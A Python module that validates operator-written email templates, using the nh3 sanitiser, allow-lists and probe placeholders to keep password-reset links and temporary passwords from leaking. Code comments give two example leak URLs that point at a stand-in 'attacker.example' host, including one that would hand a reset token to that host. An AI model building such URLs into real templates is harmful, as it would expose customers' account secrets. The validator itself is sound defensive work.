"""What an operator's template may contain: checked with a maintained sanitiser (nh3).

A template reaches every customer, and two of them carry a secret (the reset or
set-password link, a temporary password). So the HTML part is held to an allow-list and a
placement rule, and is refused — never silently cleaned — when it breaks them:

- Tags and attributes: the allow-lists below (formatting, tables, links, images); no
  script, style element, event handler, form or frame. A `style` attribute may set only
  the listed properties, and no CSS function but colours (no `url()`: nothing is loaded).
- Remote resources: none, except images from STOREFRONT_BASE_URL's origin (a logo).
  Links (`<a href>`) are absolute http(s) or mailto URLs: following one is the reader's
  choice, loading an image is not.
- Placeholders: in text content, or in a quoted value of an allowed attribute. `{{ link }}`
  only as the whole `href` of an `<a>` (and in the text part): anywhere else — an image's
  URL, a query string — it would hand the token to whoever the URL points at.
  `{{ password }}` only in text content. `{{ portal_url }}` may start a URL, followed by
  nothing or a path, query or fragment (`/`, `?`, `#`: never `@host` or `.host`, which
  would change the host); no other placeholder may be in one. The subject carries no
  secret. The html, head and body elements are the sender's: neither their start nor
  their end tags.
- The text part: a secret stands alone (blank space or nothing either side), since mail
  clients turn URL-like runs of text into links (`text_problems`).

How: the HTML is rendered with a probe value for every placeholder — a marker followed by
an attribute (`pv…-first_name-vp data-p…=1`), the worst a customer's name could be — and
the sanitiser (ammonia, through nh3) cleans it with the allow-lists and a filter for the
rules above. If the cleaned HTML differs from the probe rendering (compared as parsed,
since the sanitiser re-serialises), the template is refused with a reason. A placeholder in
an unquoted attribute is caught this way: its probe's extra attribute is removed.

nh3 is imported on first use: only the template routes and, for a customised template,
the sender pay for it.
"""

from __future__ import annotations

import re
import secrets
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

from portal_accounts.config import get_settings

LINK, PASSWORD, PORTAL_URL = "link", "password", "portal_url"
SECRETS = (LINK, PASSWORD)
ONLY_AS_HREF = "{{ link }} is only allowed as the href of a link (a href)"

TAGS = frozenset(
    {
        *("a", "abbr", "b", "blockquote", "br", "caption", "center", "code", "div", "em"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "pre"),
        *("s", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot"),
        *("th", "thead", "tr", "u", "ul"),
    }
)
_CELL = {"align", "valign", "width", "height", "colspan", "rowspan", "bgcolor"}
ATTRIBUTES = {
    "*": {"style", "title", "dir", "lang", "align"},
    "a": {"href"},
    "img": {"src", "alt", "width", "height"},
    "table": {"width", "border", "cellpadding", "cellspacing", "role", "bgcolor"},
    "td": _CELL,
    "th": _CELL,
}
URL_ATTRIBUTES = frozenset({("a", "href"), ("img", "src")})
STYLE_PROPERTIES = frozenset(
    {
        *("color", "background-color", "font-family", "font-size", "font-style"),
        *("font-weight", "line-height", "letter-spacing", "text-align", "text-decoration"),
        *("text-transform", "vertical-align", "white-space", "display", "width"),
        *("max-width", "min-width", "height", "margin", "margin-top", "margin-right"),
        *("margin-bottom", "margin-left", "padding", "padding-top", "padding-right"),
        *("padding-bottom", "padding-left", "border", "border-top", "border-right"),
        *("border-bottom", "border-left", "border-color", "border-style", "border-width"),
        *("border-radius", "border-collapse", "border-spacing", "list-style-type"),
    }
)
# The only CSS functions a style may call: colours. No url(), image(), expression().
_CSS_FUNCTION = re.compile(r"([a-z-]*)\s*\(", re.IGNORECASE)
_CSS_COLOUR_FUNCTIONS = frozenset({"rgb", "rgba", "hsl", "hsla"})
_DOCUMENT_TAGS = frozenset({"html", "head", "body"})
_PLACEHOLDER = re.compile(r"\{\{\s*([A-Za-z_][A-Za-z0-9_]*)\s*\}\}")


@dataclass
class _Probe:
    """The probe values of one check, with a nonce so a template cannot forge them."""

    nonce: str = field(default_factory=lambda: secrets.token_hex(4))

    @property
    def attribute(self) -> str:
        return f"data-p{self.nonce}"

    def value(self, name: str) -> str:
        return f"pv{self.nonce}-{name}-vp {self.attribute}=1"

    def names_in(self, text: str) -> list[str]:
        return re.findall(rf"pv{self.nonce}-([A-Za-z0-9_]+)-vp", text)

    def render(self, source: str) -> str:
        return _PLACEHOLDER.sub(lambda match: self.value(match.group(1)), source)


def _origin(url: str) -> tuple[str, str]:
    parts = urlsplit(url.strip())
    return parts.scheme.lower(), parts.netloc.lower()


def storefront_origin() -> tuple[str, str]:
    """(scheme, host[:port]) of STOREFRONT_BASE_URL: where a template's images may be."""
    return _origin(get_settings().storefront_base_url)


class _Rules:
    """The attribute filter handed to the sanitiser: placement and URL rules, with reasons."""

    def __init__(self, probe: _Probe) -> None:
        self.probe = probe
        self.portal_url = get_settings().storefront_base_url.strip()
        self.storefront = _origin(self.portal_url)
        self.reasons: dict[tuple[str, str], str] = {}

    def __call__(self, tag: str, attribute: str, value: str) -> str | None:
        reason = self._refusal(tag, attribute, value)
        if reason is None:
            return value
        self.reasons.setdefault((tag, attribute), reason)
        return None

    def _refusal(self, tag: str, attribute: str, value: str) -> str | None:
        names = self.probe.names_in(value)
        if attribute == "style":
            if names:
                return f"{tag} style: no placeholder in a style"
            return _style_refusal(tag, value)
        if LINK in names and (tag, attribute) != ("a", "href"):
            return f"{ONLY_AS_HREF}, not in {tag} {attribute}"
        if PASSWORD in names:
            return f"{{{{ password }}}} is only allowed in text, not in {tag} {attribute}"
        if (tag, attribute) in URL_ATTRIBUTES:
            return self._url_refusal(tag, attribute, value.strip(), names)
        return None

    def _url_refusal(self, tag: str, attribute: str, url: str, names: list[str]) -> str | None:
        where = f"{tag} {attribute}"
        if LINK in names:
            if url != self.probe.value(LINK):
                return f"{where}: {{{{ link }}}} must be the whole href, nothing around it"
            return None
        portal = self.probe.value(PORTAL_URL)
        if names and not (names == [PORTAL_URL] and url.startswith(portal)):
            return f"{where}: only {{{{ portal_url }}}} may be in a URL, at its start"
        if names:
            # What follows may not change the host: `{{ portal_url }}@attacker.example`
            # or `.attacker.example` would, for a portal_url without a trailing slash.
            rest = url[len(portal) :]
            if rest[:1] not in ("", "/", "?", "#") or _origin(self.portal_url + rest) != (
                self.storefront
            ):
                return (
                    f"{where}: only a path, a query or a fragment (/, ?, #) may follow "
                    "{{ portal_url }}"
                )
            return None
        if tag == "img":
            if _origin(url) != self.storefront:
                return (
                    f"{where}: images only from the storefront "
                    f"({self.storefront[0]}://{self.storefront[1]}), nothing else is loaded"
                )
            return None
        if not url.startswith("#") and not re.match(r"(?i)(https?|mailto):", url):
            return f"{where}: links must be absolute http, https or mailto URLs"
        return None


def _style_refusal(tag: str, value: str) -> str | None:
    if "\\" in value or any(
        name.lower() not in _CSS_COLOUR_FUNCTIONS for name in _CSS_FUNCTION.findall(value)
    ):
        return f"{tag} style: no CSS functions but colours (no url(), nothing is loaded)"
    return None


@dataclass
class _Parsed:
    """An HTML text as the stdlib parser sees it, for comparing before and after cleaning."""

    starts: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    end_tags: list[str] = field(default_factory=list)
    text: str = ""
    comments: int = 0
    declarations: int = 0


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parsed = _Parsed()

    def handle_starttag(self, tag, attrs):
        self.parsed.starts.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag):
        self.parsed.end_tags.append(tag)

    def handle_data(self, data):
        self.parsed.text += data

    def handle_comment(self, data):
        self.parsed.comments += 1

    def handle_decl(self, decl):
        self.parsed.declarations += 1

    def unknown_decl(self, data):
        self.parsed.declarations += 1

    def handle_pi(self, data):
        self.parsed.declarations += 1


def _parse(html: str) -> _Parsed:
    collector = _Collector()
    collector.feed(html.replace("\r\n", "\n"))
    collector.close()
    return collector.parsed


def _declarations(css: str) -> list[str]:
    """A style's declarations without whitespace: the sanitiser re-serialises them."""
    return [re.sub(r"\s+", "", part) for part in css.split(";") if part.strip()]


def _same(attribute: str, before: str, after: str) -> bool:
    if attribute == "style":
        return _declarations(before) == _declarations(after)
    return before == after


def _cleaner(rules: _Rules):
    import nh3  # here, not at import: only what validates templates pays for it

    return nh3.Cleaner(
        tags=set(TAGS),
        clean_content_tags={"script", "style"},
        attributes={tag: set(names) for tag, names in ATTRIBUTES.items()},
        attribute_filter=rules,
        strip_comments=True,
        link_rel=None,
        url_schemes={"http", "https", "mailto"},
        filter_style_properties=set(STYLE_PROPERTIES),
    )


def html_problems(source: str) -> list[str]:
    """Why the HTML part breaks the rules (empty when it keeps them), one reason each."""
    probe = _Probe()
    rules = _Rules(probe)
    rendered = probe.render(source)
    before = _parse(rendered)
    after = _parse(_cleaner(rules).clean(rendered))
    reasons: list[str] = []

    def add(reason: str) -> None:
        if reason not in reasons:
            reasons.append(reason)

    tags = [*(tag for tag, _ in before.starts), *before.end_tags]
    if before.declarations or any(tag in _DOCUMENT_TAGS for tag in tags):
        add(
            "this is the body of the email: leave out the doctype and the html, head and "
            "body elements (the sender adds them)"
        )
    for tag in tags:
        if probe.nonce in tag:
            add("a placeholder cannot be (part of) a tag name")
        elif tag not in TAGS and tag not in _DOCUMENT_TAGS:
            add(f"the element {tag} is not allowed")
    if before.comments:
        add("comments are not allowed")
    kept = [(tag, attrs) for tag, attrs in before.starts if tag in TAGS]
    cleaned_starts = _without_implied(after.starts, kept)
    same_tags = [tag for tag, _ in kept] == [tag for tag, _ in cleaned_starts]
    if same_tags:
        for (tag, attrs), (_, cleaned) in zip(kept, cleaned_starts, strict=True):
            for name, value in attrs.items():
                if name in cleaned and _same(name, value, cleaned[name]):
                    continue
                add(_attribute_reason(probe, rules, tag, name, value, cleaned.get(name, "")))
    if LINK in probe.names_in(before.text):
        add(f"{ONLY_AS_HREF}, not in the text of the HTML")
    if not reasons and (before.text != after.text or not same_tags):
        add(
            "the sanitiser would rearrange this HTML: check that the tags nest and close "
            "properly (a p cannot hold a div, a table only rows and cells)"
        )
    return reasons


def _without_implied(
    cleaned: list[tuple[str, dict[str, str]]], source: list[tuple[str, dict[str, str]]]
) -> list[tuple[str, dict[str, str]]]:
    """The cleaned start tags less the tbody the parser adds to a table written without one."""
    out, at = [], 0
    for tag, attrs in cleaned:
        expected = source[at][0] if at < len(source) else None
        if tag == "tbody" and not attrs and expected != "tbody":
            continue
        out.append((tag, attrs))
        at += 1
    return out


def _attribute_reason(
    probe: _Probe, rules: _Rules, tag: str, name: str, value: str, cleaned: str
) -> str:
    if name == probe.attribute:
        return (
            f"{tag}: a placeholder in an unquoted attribute value: put the value in quotes "
            '(title="{{ first_name }}")'
        )
    if probe.nonce in name:
        return "a placeholder cannot be (part of) an attribute name"
    if (tag, name) in rules.reasons:
        return rules.reasons[(tag, name)]
    if name.startswith("on"):
        return f"{tag} {name}: event handler attributes are not allowed"
    if name == "style":
        kept = {d.split(":", 1)[0] for d in _declarations(cleaned)}
        refused = [prop for d in _declarations(value) if (prop := d.split(":", 1)[0]) not in kept]
        return (
            f"{tag} style: {', '.join(refused) or 'a declaration'} is not allowed "
            "(a style may set layout, font, colour, border and spacing properties, in lower case)"
        )
    if (tag, name) in URL_ATTRIBUTES:
        return f"{tag} {name}: only http, https or mailto URLs"
    return f"the attribute {name} is not allowed on {tag}"


def text_problems(source: str) -> list[str]:
    """The text part is not sanitised, but a mail client links any run of text that looks
    like a URL: a secret inside one (`https://attacker.example/?t={{ link }}`) would go to
    that URL's host. So a secret stands alone: blank space or nothing on either side."""
    reasons = []
    for match in _PLACEHOLDER.finditer(source):
        name = match.group(1)
        before = source[match.start() - 1 : match.start()]
        after = source[match.end() : match.end() + 1]
        if name in SECRETS and not (_blank(before) and _blank(after)):
            reason = (
                f"{{{{ {name} }}}} must stand alone in the text: a space, a line break or "
                "nothing on each side, never inside a URL"
            )
            if reason not in reasons:
                reasons.append(reason)
    return reasons


def _blank(character: str) -> bool:
    return not character or character.isspace()


def subject_problems(source: str) -> list[str]:
    """The subject is shown in lists and notifications, and kept by mail providers."""
    used = set(_PLACEHOLDER.findall(source))
    return [f"{{{{ {name} }}}} is not allowed in the subject" for name in SECRETS if name in used]
